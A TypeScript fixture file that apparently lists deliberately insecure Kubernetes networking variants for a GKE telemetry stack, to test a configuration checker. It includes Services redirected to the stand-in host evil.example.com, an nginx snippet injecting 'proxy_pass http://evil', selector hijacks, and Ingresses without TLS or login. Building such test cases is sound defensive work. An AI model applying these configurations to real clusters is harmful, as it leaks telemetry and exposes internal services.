/** Ways into the cluster, and Services that lead elsewhere. */
import { AGENT, all, GATEWAY, object, set } from "../draft";
import type { Tree, Weakening, Weakenings } from "../draft";

const NETWORKING = "networking.k8s.io/v1";
const GATEWAY_API = "gateway.networking.k8s.io/v1";

function ingress(service: string, namespace: string, change: { annotations?: Tree; spec?: Tree } = {}): Weakening[1] {
  const host = `${service}.example.com`;
  return object(NETWORKING, "Ingress", service, namespace, {
    metadata: {
      name: service,
      namespace,
      labels: { "app.kubernetes.io/name": service, "app.kubernetes.io/part-of": "gke-telemetry" },
      annotations: {
        "kubernetes.io/ingress.allow-http": "false",
        "nginx.ingress.kubernetes.io/force-ssl-redirect": "true",
        ...change.annotations,
      },
    },
    spec: {
      tls: [{ hosts: [host], secretName: "tls" }],
      rules: [
        {
          host,
          http: {
            paths: [{ path: "/", pathType: "Prefix", backend: { service: { name: service, port: { name: "http" } } } }],
          },
        },
      ],
      ...change.spec,
    },
  });
}

export const EXPOSURE: Weakenings = {
  "external-name": [
    "the name of the store leads out of the cluster",
    set("Service/metrics", "spec", { type: "ExternalName", externalName: "evil.example.com" }),
  ],
  "external-name-added": [
    "a name in the stack's namespace leads out",
    object("v1", "Service", "store", "monitoring", {
      spec: { type: "ExternalName", externalName: "evil.example.com" },
    }),
  ],
  "external-name-field": ["the same as a field", set("Service/grafana", "spec/externalName", "evil.example.com")],
  "selector-hijack": [
    "samples go to other pods",
    set("Service/metrics", "spec/selector", { "app.kubernetes.io/name": "stranger" }),
  ],
  "selector-hijack-agent": [
    "applications' spans go to other pods",
    set("Service/agent-service", "spec/selector", { app: "stranger" }),
  ],
  "selector-widened": [
    "other pods answer too",
    set("Service/grafana", "spec/selector", { "app.kubernetes.io/part-of": "gke-telemetry" }),
  ],
  "selector-removed": ["endpoints are written by hand", set("Service/metrics", "spec/selector", undefined)],
  "selector-of-other-part": [
    "Prometheus' name leads to Grafana",
    set("Service/metrics", "spec/selector/app.kubernetes.io~1name", "grafana"),
  ],
  "team-service-swapped": [
    "the team's spans go to the other Jaeger",
    set("Service/jaeger-shop", "spec/selector/app.kubernetes.io~1instance", "jaeger-default"),
  ],
  "traffic-leaves-node": [
    "spans and metrics cross nodes in plain text",
    set("Service/agent-service", "spec/internalTrafficPolicy", "Cluster"),
  ],
  "traffic-leaves-node-unset": [
    "the same by default",
    set("Service/agent-service", "spec/internalTrafficPolicy", undefined),
  ],
  "load-balancer-class": [
    "a load balancer of another kind",
    all(
      set("Service/metrics", "spec/type", "LoadBalancer"),
      set("Service/metrics", "spec/loadBalancerClass", "networking.gke.io/l4-regional-external"),
    ),
  ],
  "load-balancer-annotation": [
    "an annotation that asks for a load balancer's backend",
    set("Service/metrics", "metadata/annotations", { "cloud.google.com/neg": '{"exposed_ports":{"9090":{}}}' }),
  ],
  "dns-annotation": [
    "a public name for the Service",
    set("Service/grafana", "metadata/annotations", {
      "external-dns.alpha.kubernetes.io/hostname": "grafana.example.com",
    }),
  ],
  "further-port": [
    "a port that nobody needs",
    set("Service/metrics", "spec/ports/+", { name: "extra", port: 8080, targetPort: 9090, protocol: "TCP" }),
  ],
  "target-port": ["another port of the pod", set("Service/grafana", "spec/ports/0/targetPort", 6060)],
  "publish-not-ready": [
    "clients reach pods that are not ready",
    set("Service/metrics", "spec/publishNotReadyAddresses", true),
  ],
  "external-traffic": ["external IPs", set("Service/grafana", "spec/externalIPs", ["203.0.113.9"])],
  "gateway-service-public": ["the gateway's Service is public", set(GATEWAY, "values/service/type", "LoadBalancer")],
  "gateway-service-annotations": [
    "the same by an annotation",
    set(GATEWAY, "values/service/annotations", { "cloud.google.com/load-balancer-type": "External" }),
  ],
  "agent-service-of-chart": [
    "a second Service of the agents",
    set(AGENT, "values/service", { enabled: true, type: "NodePort" }),
  ],
  "ingress-no-tls": ["the login in plain text", ingress("grafana", "monitoring", { spec: { tls: [] } })],
  "ingress-no-tls-host": [
    "TLS for another host alone",
    ingress("grafana", "monitoring", { spec: { tls: [{ hosts: ["other.example.com"], secretName: "tls" }] } }),
  ],
  "ingress-http-allowed": [
    "Google's load balancer serves plain HTTP too",
    ingress("grafana", "monitoring", { annotations: { "kubernetes.io/ingress.allow-http": "true" } }),
  ],
  "ingress-no-redirect": [
    "nginx serves plain HTTP too",
    ingress("grafana", "monitoring", { annotations: { "nginx.ingress.kubernetes.io/force-ssl-redirect": "false" } }),
  ],
  "ingress-snippet": [
    "a snippet is the controller's own configuration",
    ingress("grafana", "monitoring", {
      annotations: { "nginx.ingress.kubernetes.io/configuration-snippet": "proxy_pass http://evil;" },
    }),
  ],
  "ingress-default-backend": [
    "every host leads to Grafana",
    ingress("grafana", "monitoring", {
      spec: { defaultBackend: { service: { name: "prometheus", port: { number: 9090 } } } },
    }),
  ],
  "ingress-prometheus": ["Prometheus on the internet", ingress("prometheus", "monitoring")],
  "ingress-jaeger-no-login": ["traces without a login", ingress("jaeger-shop", "tracing")],
  "ingress-jaeger-default-no-login": ["traces without a login", ingress("jaeger-default", "tracing")],
  "ingress-agent": ["anyone sends spans", ingress("otel-agent", "open-telemetry")],
  "http-route": [
    "the same by the Gateway API",
    object(GATEWAY_API, "HTTPRoute", "prometheus", "monitoring", {
      spec: { parentRefs: [{ name: "g" }], rules: [{ backendRefs: [{ name: "prometheus", port: 9090 }] }] },
    }),
  ],
  "http-route-jaeger": [
    "traces without a login by the Gateway API",
    object(GATEWAY_API, "HTTPRoute", "jaeger-shop", "tracing", {
      spec: { parentRefs: [{ name: "g" }], rules: [{ backendRefs: [{ name: "jaeger-shop", port: 16686 }] }] },
    }),
  ],
  "tcp-route": [
    "TCP by the Gateway API",
    object("gateway.networking.k8s.io/v1alpha2", "TCPRoute", "prometheus", "monitoring", { spec: {} }),
  ],
  "gateway-http": [
    "a Gateway that serves plain HTTP",
    object(GATEWAY_API, "Gateway", "g", "monitoring", {
      spec: {
        gatewayClassName: "gke-l7-global-external-managed",
        listeners: [{ name: "http", protocol: "HTTP", port: 80 }],
      },
    }),
  ],
  "reference-grant": [
    "routes of other namespaces lead to Services here",
    object("gateway.networking.k8s.io/v1beta1", "ReferenceGrant", "g", "monitoring", {
      spec: { from: [{ namespace: "shop" }], to: [{ kind: "Service" }] },
    }),
  ],
  "openshift-route": [
    "the same on OpenShift",
    object("route.openshift.io/v1", "Route", "prometheus", "monitoring", {
      spec: { to: { kind: "Service", name: "prometheus" } },
    }),
  ],
  "service-attachment": [
    "another project reaches the Service",
    object("networking.gke.io/v1", "ServiceAttachment", "x", "monitoring", {
      spec: { connectionPreference: "ACCEPT_AUTOMATIC" },
    }),
  ],
  "endpoints-by-hand": [
    "the store's name leads to any address",
    object("v1", "Endpoints", "prometheus", "monitoring", { subsets: [{ addresses: [{ ip: "203.0.113.9" }] }] }),
  ],
  "endpoint-slice": [
    "the same",
    object("discovery.k8s.io/v1", "EndpointSlice", "prometheus-x", "monitoring", {
      endpoints: [{ addresses: ["203.0.113.9"] }],
    }),
  ],
};
